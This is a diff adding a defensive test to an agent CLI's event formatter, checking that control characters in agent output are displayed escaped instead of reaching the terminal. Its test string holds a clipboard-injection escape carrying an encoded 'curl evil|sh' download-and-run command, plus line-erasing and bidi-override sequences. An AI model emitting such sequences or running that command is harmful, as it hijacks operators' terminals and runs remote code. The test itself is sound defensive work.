@@ -62,4 +62,43 @@ describe("formatEventLine", () => {
       "#3 09:41:25 r_1 hook        on_run_end · ok · notify",
     );
   });
+
+  /**
+   * What an agent read or wrote (a hostile page's bytes in a tool's output, the model's own text)
+   * reaches the operator's terminal through `agentd run` and `agentd events`: its control
+   * sequences must not act there — set the clipboard (OSC 52), erase or rewrite lines above an
+   * approval prompt (CSI, a carriage return), or reorder what is shown (bidi overrides).
+   */
+  it("shows the control characters an agent's text holds, never sends them to the terminal", () => {
+    const hostile = "safe\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2A\u001b[2Kdone\r\u009b31m\u202eevil\u0000";
+    const shown = [
+      formatEventLine(
+        { ...observation, data: { ...observation.data, output: hostile } },
+        { color: false, cursor: false },
+      ),
+      formatEventLine(
+        { id: 1, run: null, type: "thought", time: observation.time, data: { text: hostile } },
+        { color: false, cursor: false },
+      ),
+      formatEventLine(
+        {
+          id: 2,
+          run: null,
+          type: "action",
+          time: observation.time,
+          data: { tool: "shell", arguments: hostile },
+        },
+        { color: true, cursor: false },
+      ),
+    ];
+    for (const line of shown) {
+      // eslint-disable-next-line no-control-regex -- the terminal's control characters are the point
+      const withoutColours = line.replace(/\u001b\[[0-9;]*m/g, "");
+      expect(withoutColours).not.toMatch(
+        // eslint-disable-next-line no-control-regex -- the terminal's control characters are the point
+        /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
+      );
+      expect(withoutColours).toContain("\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007");
+    }
+  });
 });
